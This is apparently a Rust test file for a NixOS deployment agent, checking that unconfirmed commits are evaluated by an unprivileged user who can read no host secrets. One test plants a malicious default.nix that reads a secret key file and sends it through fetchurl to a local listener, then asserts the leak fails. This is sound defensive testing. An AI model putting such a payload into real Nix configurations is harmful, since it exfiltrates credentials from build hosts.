//! Commits are evaluated by a user that can open nothing of the host.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use fort_agent::core::types::Commit;

use super::*;
use crate::nix::apart::{Ears, SECRET, files_with};
use crate::support::rig::HOST;

/// Returns those of the paths that an unprivileged user can read.
fn readable(paths: &[PathBuf], user: &str, group: &str) -> Vec<PathBuf> {
    let script = "for path; do [ -r \"$path\" ] && echo \"$path\"; done; true";
    let mut command = Command::new("setpriv");
    command.args(["--reuid", user, "--regid", group, "--clear-groups", "sh", "-c", script, "sh"]);
    let output = command.args(paths).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let said = String::from_utf8(output.stdout).unwrap();
    said.lines().map(PathBuf::from).collect()
}

/// All that is below a directory, and it itself.
fn all_below(directory: &Path) -> Vec<PathBuf> {
    let mut found = vec![directory.to_owned()];
    for entry in std::fs::read_dir(directory).unwrap().flatten() {
        if entry.file_type().unwrap().is_dir() {
            found.extend(all_below(&entry.path()));
        } else {
            found.push(entry.path());
        }
    }
    found
}

#[test]
fn a_commit_that_nobody_has_confirmed_reads_and_sends_nothing_of_the_host() {
    let mut rig = Rig::new();
    let dir = rig.store.dir().to_owned();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    rig.daemon = Some(rig.store.daemon());
    rig.settings.activation = "confirm = \"manual\"".into();
    rig.settings.system = "kind = \"file\"".into();
    let secret = dir.join("key");
    std::fs::write(&secret, SECRET).unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let ears = Ears::open();

    let good = rig.push("release", &Host::new("one"));
    rig.start();
    let waits_for = |commit: Commit| {
        rig.wait("it waits to be confirmed", |status| {
            status["state"] == "waiting" && status["gate"]["commit"] == commit.to_string()
        })
    };
    let status = waits_for(good);
    assert_eq!(status["agent"]["unconfined"], serde_json::Value::Null);

    let original = std::fs::read_to_string(rig.tree.dir().join("default.nix")).unwrap();
    let sends = format!(
        "{{ nixosConfigurations.{HOST}.config.system.build.toplevel = builtins.fetchurl {{ \
         url = \"http://{}/leak?${{builtins.readFile {}}}\"; }}; }}",
        ears.address(),
        secret.display()
    );
    rig.tree.write("default.nix", &sends);
    let evil = rig.push_tree("release", "Send it away");
    let last = rig.wait_verdict(evil, "failed");
    assert!(last["cause"].as_str().unwrap().contains("Permission denied"), "{last:#}");
    assert_eq!(ears.heard(), Vec::<String>::new());
    assert_eq!(files_with(SECRET, &dir.join("store")), Vec::<PathBuf>::new());

    // What there is of the agent's own, nobody else can read; and who evaluates
    // reads nothing but what it was lent.
    rig.tree.write("default.nix", &original);
    let again = rig.push_tree("release", "Send nothing");
    waits_for(again);
    let state = rig.state();
    let all = all_below(&state);
    assert_eq!(readable(&all, "12345", "12345"), Vec::<PathBuf>::new());
    let lent = [state.join("exports"), state.join("evaluation")];
    let others: Vec<PathBuf> =
        all.into_iter().filter(|path| !lent.iter().any(|lent| path.starts_with(lent))).collect();
    assert!(others.contains(&state.join("git/HEAD")), "{others:?}");
    assert_eq!(readable(&others, "65534", "65534"), Vec::<PathBuf>::new());
}

#[test]
fn a_host_whose_commits_are_evaluated_by_root_says_so() {
    let (rig, _) = Rig::deployed();
    let status = rig.status().unwrap();
    assert_eq!(status["agent"]["unconfined"]["why"], "no-daemon");
    let said = "commits are evaluated with all the rights of the agent: no Nix daemon serves";
    for arguments in [&["status"][..], &["check-config"]] {
        let (code, text) = rig.tell(arguments);
        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(code == 0 && text.contains(said), "{text}");
    }
    assert_eq!(rig.log().matches(said).count(), 1);
}
